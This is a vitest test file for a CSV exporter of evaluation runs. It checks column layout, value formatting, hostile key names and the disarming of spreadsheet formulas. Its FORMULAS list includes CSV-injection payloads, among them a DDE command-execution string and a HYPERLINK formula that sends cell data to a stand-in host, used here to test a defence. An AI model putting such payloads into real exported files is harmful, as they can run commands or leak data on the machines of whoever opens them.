import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { RunSnapshot } from '../../../src/exporter.ts'
import { csv } from '../../../src/exporters/csv.ts'
import { toRows } from '../../../src/source.ts'
import { collect, column, snapshot, stored } from './snapshot.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'csv-'))
})
afterAll(async () => {
  await rm(folder, { recursive: true, force: true })
})

async function written(
  run: RunSnapshot,
): Promise<{ text: string; header: string[]; records: Record<string, string>[] }> {
  const path = join(folder, 'run.csv')
  await csv.write(run, path)
  const text = await readFile(path, 'utf8')
  const [header = [], ...rows] = parse(text, { relax_column_count: false }) as string[][]
  return { text, header, records: rows.map((row) => Object.fromEntries(row.map((cell, i) => [header[i], cell]))) }
}

/** What the documentation of the format tells its readers to do. */
function restored(cell: string): string {
  return /^'+[=+\-@\t\r\n]/.test(cell) ? cell.slice(1) : cell
}

const run = snapshot(
  [
    stored(0, {
      inputs: { question: 'Why, "really"?', n: -3 },
      outputs: 'line one\nline two',
      expectations: { answer: 'because' },
      trace: { tags: { lang: 'en' } },
      feedback: [
        { name: 'polite', value: true, rationale: 'no insult' },
        { name: 'length', value: 17 },
      ],
    }),
    stored(1, {
      inputs: { question: 'When?', more: { a: [1] } },
      trial: { status: 'failed', error: { code: 'HTTP', message: '500' } },
      feedback: [{ name: 'polite', error: { code: 'SCORER_THREW', message: 'no outputs' } }],
      trace: { status: 'ERROR' },
    }),
  ],
  { columns: [column('polite'), column('length', 'number'), column('silent', 'empty')] },
)

test('csv writes one line per trial, its columns in a fixed order', async () => {
  const { header, records, text } = await written(run)
  expect(header).toEqual([
    ...[
      'id',
      'index',
      'repeat',
      'status',
      'inputs.question',
      'inputs.n',
      'inputs.more',
      'outputs',
      'expectations.answer',
    ],
    'tags.lang',
    ...['polite', 'length', 'silent'].flatMap((name) => [
      `feedback.${name}`,
      `feedback.${name}.rationale`,
      `feedback.${name}.error`,
    ]),
    ...['error', 'trace_id', 'duration_ms'],
  ])
  expect(records[0]).toMatchObject({
    id: 'row-0',
    index: '0',
    repeat: '0',
    status: 'ok',
    'inputs.question': 'Why, "really"?',
    'inputs.n': '-3',
    'inputs.more': '',
    outputs: 'line one\nline two',
    'expectations.answer': 'because',
    'tags.lang': 'en',
    'feedback.polite': 'true',
    'feedback.polite.rationale': 'no insult',
    'feedback.polite.error': '',
    'feedback.length': '17',
    'feedback.silent': '',
    error: '',
    trace_id: `tr-${'0'.repeat(32)}`,
    duration_ms: '1.5',
  })
  expect(records[1]).toMatchObject({
    status: 'failed',
    'inputs.more': '{"a":[1]}',
    outputs: '',
    'feedback.polite': '',
    'feedback.polite.error': 'SCORER_THREW: no outputs',
    error: 'HTTP: 500',
  })
  expect(text.split('\r\n')).toHaveLength(4)
})

test('csv spreads inputs and outputs over columns only where every row has a record', async () => {
  const spread = await written(
    snapshot([stored(0, { inputs: 'a', outputs: { x: 1, y: null } }), stored(1, { inputs: { q: 1 } })]),
  )
  expect(spread.header.slice(4, 7)).toEqual(['inputs', 'outputs.x', 'outputs.y'])
  expect(spread.records.map((record) => record.inputs)).toEqual(['a', '{"q":1}'])

  const wide = Object.fromEntries(Array.from({ length: 501 }, (_, i) => [`key ${i}`, i]))
  const { header, records } = await written(snapshot([stored(0, { inputs: wide, outputs: [1, 2n] })]))
  expect(header.slice(4, 6)).toEqual(['inputs', 'outputs'])
  expect(JSON.parse(records[0]?.inputs as string)).toEqual(wide)
  expect(records[0]?.outputs).toBe('[1,{"$type":"bigint","value":"2"}]')
})

test('csv writes simple values as people write them', async () => {
  const inputs = { big: 10n ** 20n, when: new Date(0), nothing: null, gone: undefined, nan: Number.NaN, list: [1, 'a'] }
  const { records } = await written(snapshot([stored(0, { inputs })]))
  expect(records[0]).toMatchObject({
    'inputs.big': '100000000000000000000',
    'inputs.when': '1970-01-01T00:00:00.000Z',
    'inputs.nothing': '',
    'inputs.gone': '',
    'inputs.nan': 'NaN',
    'inputs.list': '[1,"a"]',
  })
})

test('csv finds the columns of a run whose record does not name them', async () => {
  const { header } = await written(snapshot([stored(0, { feedback: [{ name: 'late', value: 1 }] })]))
  expect(header).toContain('feedback.late.rationale')
})

test('csv leaves out assessments that others have replaced', async () => {
  const feedback = [
    { name: 'polite', value: 'old', valid: false },
    { name: 'polite', value: 'new' },
    { name: 'polite', value: 'older', valid: false },
  ]
  expect((await written(snapshot([stored(0, { feedback })]))).records[0]?.['feedback.polite']).toBe('new')
})

test('csv keeps columns apart that would share a name', async () => {
  const feedback = [
    { name: 'x', value: 1, rationale: 'why' },
    { name: 'x.rationale', value: 2 },
  ]
  const { header, records } = await written(snapshot([stored(0, { feedback })]))
  expect(new Set(header).size).toBe(header.length)
  expect(records[0]).toMatchObject({ 'feedback.x': '1', 'feedback.x.rationale': 'why', 'feedback.x.rationale#2': '2' })
})

test('csv survives names that are hostile', async () => {
  const names = ['__proto__', 'constructor', 'a\r\nb', 'say "hi", you', 'n'.repeat(10_000), '\0', '\ufffd', '\ud800']
  const inputs = Object.fromEntries(names.map((name, i) => [name, i]))
  const { header } = await written(
    snapshot([stored(0, { inputs, feedback: names.map((name) => ({ name, value: 1 })) })]),
  )
  const kept = [...names.slice(0, 5), '\ufffd', '\ufffd#2', '\ufffd#3']
  expect(header.slice(4, 12)).toEqual(kept.map((name) => `inputs.${name}`))
  expect(header.filter((name) => !/\.(rationale|error)(#\d)?$/.test(name)).slice(13, 21)).toHaveLength(8)
  expect(new Set(header).size).toBe(header.length)
})

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.test?x="&A1,"click")',
  '-',
  '+',
  '=',
  '--1',
  '-Infinity',
  '-1,5',
  "'=1+1",
  "''@x",
]
const HARMLESS = ['-3', '+3', '-3.25', '-1e-7', "'quoted'", "it's", "'", 'a=b', '', ' =1', '1-1', '{"a":1}']

test('csv disarms formulas, and reading takes the mark away again', async () => {
  const texts = [...FORMULAS, ...HARMLESS]
  const { records } = await written(snapshot(texts.map((outputs, i) => stored(i, { outputs }))))
  const cells = records.map(({ outputs }) => outputs as string)
  expect(cells.slice(0, FORMULAS.length)).toEqual(FORMULAS.map((text) => `'${text}`))
  expect(cells.slice(FORMULAS.length)).toEqual(HARMLESS)
  expect(cells.map(restored)).toEqual(texts)
})

test('csv holds nothing that is not valid text', async () => {
  const { text, records } = await written(snapshot([stored(0, { outputs: 'a\0b\ud800c😀' })]))
  expect(text.isWellFormed() && !text.includes('\0')).toBe(true)
  expect(records[0]?.outputs).toBe('a\ufffdb\ufffdc😀')
})

test('csv comes back from a parser as it was written', async () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc
      .array(fc.constantFrom('"', ',', '\r', '\n', "'", '=', '-', ' ', '\t', ';', 'a', '1', '\ufeff'), { maxLength: 6 })
      .map((parts) => parts.join('')),
  )
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (pairs) => {
      const { records } = await written(snapshot(pairs.map(([a, b], i) => stored(i, { inputs: { a }, outputs: b }))))
      const clean = (value: string): string => value.toWellFormed().replaceAll('\0', '\ufffd')
      expect(
        records.map((record) => [record['inputs.a'], record.outputs].map((cell) => restored(cell as string))),
      ).toEqual(pairs.map((pair) => pair.map(clean)))
    }),
    { numRuns: 200 },
  )
})

test('csv can be the data of the next evaluation as it is', async () => {
  const { records } = await written(run)
  const rows = await collect(
    toRows(
      '"run.csv" as CSV',
      records.map((fields, i) => ({ fields, where: `line ${i + 2}` })),
      {},
    ),
  )
  expect(rows[0]).toEqual({
    id: 'row-0',
    inputs: { question: 'Why, "really"?', n: '-3', more: '' },
    outputs: 'line one\nline two',
    expectations: { answer: 'because' },
    tags: { lang: 'en' },
  })
})
